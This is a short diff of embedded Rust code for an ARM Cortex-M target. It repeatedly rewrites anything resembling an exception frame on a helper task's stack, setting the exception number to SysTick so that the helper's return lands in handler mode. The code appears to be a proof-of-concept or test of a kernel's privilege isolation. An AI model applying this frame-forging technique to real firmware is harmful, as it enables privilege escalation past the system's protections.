@@ -76,13 +76,22 @@ fn stack_top(world: &World) -> u32 {
     world.own.stack.base + STACK_BYTES
 }
 
-/// The helper waits in a call, with its registers in a frame on its stack. There the exception's number becomes that of SysTick,
-/// so that the return to the helper is a return to thread mode and, by the frame, to a handler (DDI 0403 B1.5.8).
+/// The helper is about to begin, waits in a call, or was interrupted, with its registers in a frame on its stack. There the exception's number
+/// becomes that of SysTick, so that the return to the helper is a return to thread mode and, by the frame, to a handler (DDI 0403 B1.5.8).
 fn forge(world: &World) {
+    const TRIES: u32 = 20;
+    for _ in 0..TRIES {
+        forge_frames(world);
+        crate::order_helper();
+        let _ = sys::sleep_until(now() + HELPER_TICKS);
+    }
+}
+
+/// Changes everything on the helper's stack that looks like a frame.
+fn forge_frames(world: &World) {
     const THUMB: u32 = 1 << 24;
     const EXCEPTION: u32 = 0x1ff;
     const SYSTICK: u32 = 15;
-    let _ = sys::sleep_until(now() + HELPER_TICKS);
     let code = world.own.code;
     for frame in (stack_top(world)..end(world.own.stack) - 28).step_by(8) {
         let word = |offset: u32| (frame + offset) as *mut u32;
@@ -93,8 +102,6 @@ fn forge(world: &World) {
             unsafe { word(28).write_volatile(status | SYSTICK) };
         }
     }
-    crate::order_helper();
-    let _ = sys::sleep_until(now() + HELPER_TICKS);
 }
 
 /// Enough for the helper to run until it waits.
